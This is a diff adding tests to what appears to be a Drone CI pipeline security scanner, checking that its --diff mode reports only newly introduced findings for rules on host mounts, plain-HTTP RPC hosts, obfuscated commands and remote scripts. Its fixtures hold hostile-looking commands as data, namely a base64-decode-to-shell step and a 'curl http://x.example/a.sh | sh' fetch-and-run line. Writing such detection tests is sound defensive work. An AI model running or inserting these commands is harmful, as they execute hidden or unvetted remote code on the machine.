@@ -355,3 +355,65 @@ describe.skipIf(!hasGit)('with --diff', () => {
     expect(told.findings).toHaveLength(1);
   });
 });
+
+describe.skipIf(!hasGit)('with --diff, what stands outside of a place', () => {
+  const changed = (rule: string, before: Record<string, string>, after: Record<string, string>) => {
+    const folder = temporaryFolder();
+    git(folder, ['init', '-q']);
+    commitFiles(folder, before);
+    git(folder, ['checkout', '-q', '-b', 'change']);
+    commitFiles(folder, after);
+    return scan(folder, rule, '--diff', 'main').findings.map(({ message }) => message);
+  };
+  const compose = (host: string): string => `services:
+  runner:
+    image: drone/drone-runner-docker:1.8.5
+    volumes: ['\${MOUNT}:/x']
+    environment: {DRONE_RPC_PROTO: http, DRONE_RPC_HOST: ${host}, DRONE_RPC_SECRET: '\${SECRET}'}
+`;
+  const steps = (...commands: readonly string[]): string =>
+    `${head}- name: a\n  image: alpine@sha256:aa\n  commands:\n${commands.map((each) => `  - ${each}\n`).join('')}`;
+
+  it.each([
+    ['the variable of a mount', 'host-path-mount', 'MOUNT=/etc\n', 'MOUNT=/root\n', '"/root" of the host'],
+    ['nothing', 'host-path-mount', 'MOUNT=/etc\n', '# a word\nMOUNT=/etc\n', undefined],
+  ])('makes it new: %s', (_, rule, before, after, told) => {
+    const files = (text: string) => ({ 'compose.yml': compose('ci.example.com'), '.env': text });
+    expect(changed(rule, files(before), files(after))).toEqual(
+      told === undefined ? [] : [expect.stringContaining(told)],
+    );
+  });
+
+  it('makes it new: the host that another setting names', () => {
+    const files = (host: string) => ({ 'compose.yml': compose(host) });
+    expect(changed('plain-http-rpc', files('ci.example.com'), files('ci.example.net'))).toEqual([
+      expect.stringContaining('"ci.example.net"'),
+    ]);
+  });
+
+  it('makes it new: the rest of its command, and not the commands beside', () => {
+    const files = (text: string, other = 'make') => ({ '.drone.yml': steps(`echo ${text} | base64 -d | sh`, other) });
+    expect(changed('obfuscated-command', files('bWFrZQ=='), files('bHM='))).toHaveLength(1);
+    expect(changed('obfuscated-command', files('bHM='), files('bHM=', 'make all'))).toEqual([]);
+  });
+
+  it('makes nothing new where one of the steps that share a text goes, or they change their order', () => {
+    const step = (name: string, commands: string): string =>
+      `- name: ${name}\n  image: alpine@sha256:aa\n  commands: ${commands}\n`;
+    const get = '[curl http://x.example/a.sh | sh]';
+    const before = { '.drone.yml': `${head}${step('a', `&c ${get}`)}${step('b', '*c')}` };
+    expect(changed('remote-script', before, { '.drone.yml': `${head}${step('b', get)}` })).toEqual([]);
+    expect(
+      changed('remote-script', before, { '.drone.yml': `${head}${step('b', `&c ${get}`)}${step('a', '*c')}` }),
+    ).toEqual([]);
+  });
+});
+
+it('what a finding is told instead of is told where that is not sure enough', () => {
+  const pipeline = `${head}- name: a\n  image: plugin/docker\n  settings: {password: {from_secret: p}}\n`;
+  const { stdout } = droneAudit(['scan', '--format', 'json', '--min-confidence', 'high'], {
+    cwd: folderWith(pipeline),
+  });
+  const { findings } = JSON.parse(stdout) as { findings: Told[] };
+  expect(findings.map(({ rule }) => rule)).toContain('unpinned-image');
+});
